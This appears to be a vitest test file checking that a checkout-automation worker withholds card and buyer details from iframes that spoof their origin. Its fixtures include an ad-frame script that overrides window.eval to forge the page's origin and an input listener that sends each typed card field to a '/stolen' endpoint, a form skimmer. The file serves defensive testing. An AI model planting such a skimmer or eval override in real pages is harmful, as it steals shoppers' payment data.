/** Frames that say they are somebody else's: what an advertisement claims to be earns it nothing. */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, beforeEach, expect, it } from "vitest";
import { openWorkerRoom, type WorkerRoom } from "./checkout-room.ts";

const CARD = `<label>Card number <input name="number" autocomplete="cc-number"></label>
  <label>Expiry (MM/YY) <input name="exp" autocomplete="cc-exp"></label>
  <label>Security code <input name="cvc" autocomplete="cc-csc"></label>`;
const BUYER = `<label>Email <input name="email" autocomplete="email"></label>`;
/** All that is evaluated in a page goes through its own `eval`, and comes back as the page likes. */
const forge = (claim: string) => `
  const real = window.eval;
  const forged = (value) => {
    if (value?.view) value.view.url = "${claim}/fields";
    if (value === location.origin) return "${claim}";
    // Of an element that a frame stands in, the frame is told.
    return value === document.documentElement ? document.querySelector("iframe") : value;
  };
  window.eval = (source) => {
    const result = real(source);
    return typeof result === "function" ? (...parameters) => forged(result(...parameters)) : forged(result);
  };
  addEventListener("input", ({ target }) => fetch("/stolen?" + target.name + "=" + encodeURIComponent(target.value)));`;

const NONSENSE = `
  const real = window.eval;
  window.eval = (source) => {
    const result = real(source);
    return typeof result === "function" ? result : { view: { fields: 7, totals: [{}] }, elements: [] };
  };`;

let room: WorkerRoom;
let server: Server;
let port = 0;
let frames = "";
let claim = "";
let stolen: string[] = [];
const at = (host: string) => `http://${host}:${port}`;
const frame = (address: string) => `<iframe src="${address}" width="400" height="160"></iframe>`;

beforeAll(async () => {
  room = await openWorkerRoom();
  server = createServer(({ url: path = "" }, response) => {
    if (path.startsWith("/stolen")) stolen.push(path);
    const pages: Record<string, string> = {
      "/cart": `<h1>Basket</h1><a href="/checkout">Checkout</a>`,
      "/checkout": `<h1>Checkout</h1><form method="post" action="/pay"><p>Total £28.90</p>${frames}<button>Pay now</button></form>`,
      "/pay": `<h1>Thank you for your order</h1><p>Order number: A-1001</p><p>Total £28.90</p>${frame(`${at("ad.localhost")}/nonsense`)}`,
      "/fields": CARD,
      "/nonsense": `<script>${NONSENSE}</script>`,
      "/ad": `${BUYER}${CARD}${frame(`${at("pay.localhost")}/empty`)}<script>${forge(claim)}</script>`,
    };
    response.setHeader("content-type", "text/html; charset=utf-8").end(`<!doctype html><body>${pages[path] ?? ""}`);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  ({ port } = server.address() as AddressInfo);
});
beforeEach(() => {
  stolen = [];
});
afterAll(() => {
  server?.close();
});

async function buy() {
  const definition = {
    ...{ format: 1, basketUrl: null, checkoutOrigins: [at("127.0.0.1")], cardFrameOrigins: [at("pay.localhost")] },
    ...{ fields: {}, controls: {}, payPath: null },
  };
  const { result, calls } = await room.drive({
    ...{ shop: at("127.0.0.1"), basket: "/cart", amountMinor: 2_890, currency: "GBP" },
    fulfillment: { type: "digital", title: "Sent by email", amountMinor: 0, pickupLocation: null },
    job: { recipe: { id: "rec_test", version: 1, definition } },
  });
  return { cause: result.cause, calls, stolen };
}
const NOTHING = { cause: "missing_field", calls: [], stolen: [] };

it.each([
  ["the processor", "pay.localhost"],
  ["the shop", "127.0.0.1"],
])("an advertisement that claims to be %s gets neither the card nor the buyer", async (_who, host) => {
  claim = at(host);
  frames = frame(`${at("ad.localhost")}/ad`) + frame(`${at("pay.localhost")}/fields`);
  expect(await buy()).toEqual(NOTHING);
});

it("a frame without an origin of its own gets no card", async () => {
  frames = `<iframe srcdoc='${CARD}' width="400" height="160"></iframe>`;
  expect(await buy()).toEqual(NOTHING);
});

it("a frame that tells nonsense holds no payment up", async () => {
  frames = frame(`${at("ad.localhost")}/nonsense`) + frame(`${at("pay.localhost")}/fields`);
  expect(await buy()).toEqual({ cause: "confirmed", calls: ["card", "submitting"], stolen: [] });
});
